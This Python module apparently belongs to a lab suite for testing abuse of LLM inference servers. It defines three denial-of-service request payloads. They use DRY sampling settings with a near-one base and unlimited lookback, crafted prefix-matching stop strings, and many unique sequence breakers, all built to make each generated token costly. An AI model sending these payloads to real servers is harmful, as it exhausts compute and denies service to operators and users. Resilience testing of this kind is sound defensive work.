"""Parameters of sampling, and stop strings, that are expensive at every token. The fake model ignores the former."""

from __future__ import annotations

import asyncio

from paddock_lab.abuse.attack import ANSWERED, Attack, Target, ask_json

_REPETITIVE = "ab " * 500


async def dry_near_one(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
    """DRY looks for repetitions in everything so far, and with this base no repetition is too long to matter."""
    body = {
        "prompt": _REPETITIVE,
        "n_predict": 256,
        "dry_multiplier": 0.001,
        "dry_base": 1.0001,
        "dry_allowed_length": 1,
        "dry_penalty_last_n": -1,
        "dry_sequence_breakers": ["\n"],
    }
    return await ask_json(target, reader, writer, body, "/completion")


async def crafted_stops(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
    """Every text so far may be the beginning of each of them."""
    stops = [_REPETITIVE[: 1000 - number] + "#" for number in range(32)]
    body = {"messages": [{"role": "user", "content": f"say: {_REPETITIVE}"}], "stop": stops, "max_tokens": 512}
    return await ask_json(target, reader, writer, body)


async def many_breakers(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
    """Others each time, so that none of them is remembered."""
    breakers = [f"{id(writer)}-{number}" for number in range(64)]
    body = {"prompt": "x", "n_predict": 8, "dry_multiplier": 1, "dry_sequence_breakers": breakers}
    return await ask_json(target, reader, writer, body, "/completion")


ATTACKS = (Attack(dry_near_one, ANSWERED), Attack(crafted_stops, ANSWERED), Attack(many_breakers, ANSWERED))
